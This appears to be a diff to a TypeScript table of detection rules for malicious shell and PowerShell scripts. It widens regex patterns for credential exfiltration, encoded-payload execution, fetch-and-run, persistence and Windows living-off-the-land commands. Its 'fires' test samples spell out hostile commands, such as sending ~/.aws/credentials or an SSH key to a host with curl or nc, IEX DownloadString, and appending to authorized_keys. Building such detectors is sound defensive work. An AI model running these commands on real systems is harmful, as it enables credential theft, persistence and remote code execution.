@@ -13,7 +13,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /(?:\b(?:curl|wget|nc|ncat|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh[\\/]|\.aws[\\/]|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token|\/run\/secrets\/)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials|(?:~|\$\{?HOME\}?|\/root)\/\.(?:aws|ssh|kube|gnupg|azure|docker|config\/gcloud|\w*_history|netrc)\b).*\|\s*(?:curl|nc|ncat|wget)\b)/i,
+      /(?:\b(?:curl|wget|nc|ncat|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh[\\/]|\.aws[\\/]|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token|\/run\/secrets\/)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials|(?:~|\$\{?HOME\}?|\/root)\/\.(?:aws|ssh|kube|gnupg|azure|docker|config\/gcloud|\w*_history|netrc)\b|\/proc\/(?:\*|self|\d+)\/environ\b).*\|\s*(?:curl|nc|ncat|wget|ssh)\b)/i,
     fires: ['curl -d @$HOME/.aws/credentials http://127.0.0.1:9/', 'cat ~/.ssh/id_rsa | nc 127.0.0.1 9'],
     quiet: ['curl -O https://example.org/model.bin', 'chmod 600 ~/.ssh/id_rsa'],
   },
@@ -31,7 +31,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\b(?:iex|invoke-expression)\b[^\n]{0,200}(?:downloadstring|webclient|webrequest|restmethod|frombase64|decompress)|\bscriptblock\]::create\b[^\n]{0,200}(?:frombase64string|download(?:string|data))|(?:frombase64string|downloadstring|downloaddata)[^\n]{0,200}(?:\|\s*(?:iex|invoke-expression)\b|;\s*(?:iex|invoke-expression)\b|\bassembly\]::load\b|\bscriptblock\]::create\b)|\bassembly\]::load\w*\([^\n]{0,120}(?:frombase64|download)/i,
+      /\b(?:iex|invoke-expression)\b[^\n]{0,200}(?:downloadstring|webclient|webrequest|restmethod|frombase64|decompress)|\bscriptblock\]::create\b[^\n]{0,200}(?:frombase64string|download(?:string|data)|\birm\b|\biwr\b|invoke-webrequest|invoke-restmethod)|(?:frombase64string|downloadstring|downloaddata)[^\n]{0,200}(?:\|\s*(?:iex|invoke-expression)\b|;\s*(?:iex|invoke-expression)\b|\bassembly\]::load\b|\bscriptblock\]::create\b)|\bassembly\]::load\w*\([^\n]{0,120}(?:frombase64|download)/i,
     fires: [
       'IEX (New-Object Net.WebClient).DownloadString("http://127.0.0.1:9/x")',
       '$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("YQ==")); iex $c',
@@ -42,7 +42,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\b(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|openssl\s+(?:enc|aes[\w-]*|base64)\b[^\n|]*-d|uudecode|gunzip\b|rev|tr\s+\S+\s+\S+)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?(?:sh|python[\d.]*|perl|ruby|node)\b|\b(?:eval|exec|source|(?:ba|z|da)?sh\s+(?:-c|<<<))\s*"?(?:\$\(|`|<\()[^\n]{0,300}\b(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|rev\b)/,
+      /\b(?:base(?:64|32)\s+(?:-d|-D|--decode)|basenc\s+[^\n|]*-d|zcat|xxd\s+-r|openssl\s+(?:enc|aes[\w-]*|base64)\b[^\n|]*-d|uudecode|gunzip\b|rev|tr\s+\S+\s+\S+)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?(?:sh|python[\d.]*|perl|ruby|node)\b|\b(?:eval|exec|source|(?:ba|z|da)?sh\s+(?:-c|<<<))\s*"?(?:\$\(|`|<\()[^\n]{0,300}\b(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|rev\b)/,
     fires: [
       'echo dHJ1ZQ== | base64 -d | sh',
       'eval "$(echo dHJ1ZQ== | base64 --decode)"',
@@ -119,7 +119,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\b(?:exec|eval)\s*\(\s*(?:compile\s*\()?\s*(?:__import__|base64|zlib|marshal|codecs|bytes\.fromhex|urllib|requests)|\b(?:Invoke-)?eval\b[^\n]{0,20}\batob\s*\(|\bFunction\s*\(\s*atob\s*\(/,
+      /\b(?:os\.system|popen|Popen)\s*\(\s*(?:base64\.|binascii\.|codecs\.)?(?:b64decode|unhexlify|decode|bytes\.fromhex)\b|\b(?:exec|eval)\s*\(\s*(?:compile\s*\()?\s*(?:__import__|base64|zlib|marshal|codecs|bytes\.fromhex|urllib|requests)|\b(?:Invoke-)?eval\b[^\n]{0,20}\batob\s*\(|\bFunction\s*\(\s*atob\s*\(/,
     fires: ['python -c "exec(__import__(\'base64\').b64decode(x))"', 'eval(atob("YWxlcnQoMSk="))'],
     quiet: ['model.eval()', 'exec python serve.py'],
   },
@@ -140,7 +140,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      />>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:config\/autostart|config\/systemd|ssh\/authorized_keys)|\bcrontab\s+-(?:\s|$)|>>?\s*\/etc\/(?:cron|ld\.so\.preload|systemd\/system|rc\.local)|\bcrontab\b[^\n]*<<|\buseradd\b[^\n]*-u\s*0\b/,
+      />>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:config\/autostart|config\/systemd|ssh\/authorized_keys)|\bcrontab\s+-(?:\s|$)|>>?\s*\/etc\/(?:cron|ld\.so\.preload|systemd\/system|rc\.local|inittab|update-motd\.d)|\bcrontab\b[^\n]*<<|\buseradd\b[^\n]*-u\s*0\b/,
     fires: ['echo k >> $HOME/.ssh/authorized_keys', '(crontab -l; echo "* * * * * x") | crontab -'],
     quiet: ['crontab -l', 'echo x > notes.txt'],
   },
@@ -149,7 +149,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
     rule: ATTACKING_SCRIPT,
     unlessImage: true,
     pattern:
-      /^(?![^>\n]*\becho\s+["']*(?:export\s+[A-Z_]+=[\w:/.$\x7b}"']*|eval "\$\((?:\S*\/)?conda shell\.\w+ hook\)"|(?:conda|source) activate [\w-]+)["']*\s*>>).*(?:>>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:bashrc|bash_profile|profile|zshrc|zshenv)|>>?\s*\/etc\/(?:profile|sudoers|hosts)|\bchmod\s+(?:u\+s|[4-7]7\d\d)\b)/m,
+      /^(?![^>\n]*\becho\s+["']*(?:export\s+[A-Z_]+=[\w:/.$\x7b}"']*|eval "\$\((?:\S*\/)?conda shell\.\w+ hook\)"|(?:conda|source) activate [\w-]+)["']*\s*>>).*(?:>>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:bashrc|bash_profile|profile|zshrc|zshenv)|(?:>>?|\btee\s+(?:-a\s+)?)\s*\/etc\/(?:profile|sudoers|hosts)|\bchmod\s+(?:u\+s|[4-7]7\d\d)\b)/m,
     fires: ['echo x >> ~/.bashrc', 'chmod u+s /tmp/x', "echo 'export PATH=$(curl x)' >> ~/.profile"],
     quiet: [
       'source ~/.bashrc',
@@ -161,7 +161,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\bcertutil\b[^\n]*-(?:urlcache|decode)\b|\bmshta\b\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\b[^\n]*\/i:https?:|\brundll32\b[^\n]*(?:javascript:|url\.dll|https?:)|\bbitsadmin\b[^\n]*\/transfer\b|\breg\s+add\b[^\n]*\\Command Processor\b[^\n]*\bAutoRun\b|\breg\s+add\b[^\n]*\\(?:Run|RunOnce|Image File Execution Options|Winlogon)\b|\bschtasks\b[^\n]*\/create\b|\bnet\s+(?:user|localgroup)\b[^\n]*\/add\b|\b(?:Set|Add)-MpPreference\b[^\n]*-(?:Disable|Exclusion)|\bNew-ScheduledTask\w*\b|\bSet-ItemProperty\b[^\n]*\\Run\b|\bwmic\b[^\n]*process\s+call\s+create\b/i,
+      /\bcertutil\b[^\n]*-(?:urlcache|decode)\b|\bmshta\b\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\b[^\n]*\/i:https?:|\bsc\s+create\b[^\n]*\bbinPath|\brundll32\b[^\n]*(?:\s\\\\\w|javascript:|url\.dll|https?:)|\bbitsadmin\b[^\n]*\/transfer\b|\breg\s+add\b[^\n]*\\Command Processor\b[^\n]*\bAutoRun\b|\breg\s+add\b[^\n]*\\(?:Run|RunOnce|Image File Execution Options|Winlogon)\b|\bschtasks\b[^\n]*\/create\b|\bnet\s+(?:user|localgroup)\b[^\n]*\/add\b|\b(?:Set|Add)-MpPreference\b[^\n]*-(?:Disable|Exclusion)|\bNew-ScheduledTask\w*\b|\bSet-ItemProperty\b[^\n]*\\Run\b|\bwmic\b[^\n]*process\s+call\s+create\b/i,
     fires: [
       'certutil -urlcache -f http://127.0.0.1:9/x x.exe',
       'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc',
@@ -230,7 +230,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: FETCHED_CODE,
     pattern: new RegExp(
-      `\\b${FETCH}\\b[^\\n;]*(?:(?<!\\|)\\|(?!\\|)|\\bCOMMAND\\b)\\s*(?:(?:sudo|env|nohup|exec|command|busybox|time|nice|xargs)\\s+(?:-\\S+\\s+|\\w+=\\S*\\s+)*)*(?:/\\S*/)?(?:${PLAIN_SHELL}\\b|${READER}|source\\s*(?:$|[;&|'"]))`,
+      `\\b${FETCH}\\b[^\\n;]*(?:(?<!\\|)\\|(?!\\|)|\\bCOMMAND\\b)\\s*(?:(?:sudo|env|nohup|exec|command|busybox|time|nice|xargs|su)\\s+(?:-\\S+\\s+|\\w+=\\S*\\s+)*)*(?:/\\S*/)?(?:${PLAIN_SHELL}\\b|${READER}|source\\s*(?:$|[;&|'"]))`,
       'i',
     ),
     fires: [
@@ -250,7 +250,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: FETCHED_CODE,
     pattern: new RegExp(
-      `(?:\\b(?:(?:ba|z|da|k)?sh|eval|source|exec|python[\\d.]*\\s+-c)\\b|(?:^|[;&|]\\s*)\\.\\s)[^\\n]{0,30}(?:<\\(|\\$\\(|\`)\\s*${FETCH}\\b`,
+      `(?:\\b(?:(?:ba|z|da|k)?sh|eval|source|exec|python[\\d.]*(?:\\s+-c)?|perl|ruby|node|make\\s+-f)\\b|(?:^|[;&|]\\s*)\\.\\s)[^\\n]{0,30}(?:<\\(|\\$\\(|\`)\\s*${FETCH}\\b`,
       'i',
     ),
     fires: [
